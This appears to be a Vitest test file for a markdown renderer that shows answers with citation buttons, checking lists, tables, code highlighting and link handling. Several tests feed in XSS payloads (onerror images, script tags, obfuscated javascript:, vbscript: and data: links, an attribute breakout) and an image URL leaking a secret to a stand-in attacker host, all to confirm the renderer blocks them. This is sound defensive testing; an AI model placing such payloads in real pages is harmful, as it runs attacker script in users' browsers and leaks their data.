import { describe, expect, it } from "vitest";
import { isSafeUrl, renderMarkdown } from "../src/markdown";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("markdown", () => {
  it("renders lists, tables and highlighted code with a copy button", () => {
    const html = renderMarkdown("- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(): return 1\n```\n");
    const el = dom(html);
    expect(el.querySelectorAll("li")).toHaveLength(2);
    expect(el.querySelector("table td")?.textContent).toBe("1");
    expect(el.querySelector("code.language-python .hljs-keyword")?.textContent).toBe("def");
    expect(el.querySelector("button.copy-code")).not.toBeNull();
  });

  it("escapes raw HTML instead of rendering it", () => {
    const el = dom(renderMarkdown('<img src=x onerror="alert(1)"> <script>alert(2)</script> <b onclick="x()">b</b>'));
    expect(el.querySelector("img, script, b")).toBeNull();
    expect(el.textContent).toContain("<img src=x onerror=");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
  ])("refuses the dangerous link %s", (source) => {
    const el = dom(renderMarkdown(source));
    for (const a of el.querySelectorAll("a")) expect(isSafeUrl(a.getAttribute("href") ?? "")).toBe(true);
    expect(el.innerHTML).not.toMatch(/href="(?:java|data|vbscript)/i);
  });

  it("opens web links in a new tab without an opener or referrer", () => {
    const a = dom(renderMarkdown("[docs](https://example.com/x)")).querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://example.com/x");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  it("never loads images from an answer", () => {
    const el = dom(renderMarkdown("![leak](https://evil.example/p.png?q=secret)"));
    expect(el.querySelector("img")).toBeNull();
  });

  it("a code block's language cannot break out of its attribute", () => {
    const el = dom(renderMarkdown('```"><img src=x onerror=alert(1)>\ncode\n```'));
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("code")?.textContent).toBe("code\n");
  });

  it("turns [n] into source buttons only for the answer's sources, and not in code or links", () => {
    const el = dom(renderMarkdown("See [1] and [2], `[1]`, [link [1]](https://e.x)", new Set([1])));
    const buttons = el.querySelectorAll("button.citation");
    expect(buttons).toHaveLength(1);
    expect(buttons[0]!.getAttribute("data-cite")).toBe("1");
    expect(el.textContent).toContain("[2]");
  });

  it("without sources, [n] stays text", () => {
    expect(dom(renderMarkdown("see [1]")).querySelector("button")).toBeNull();
  });
});
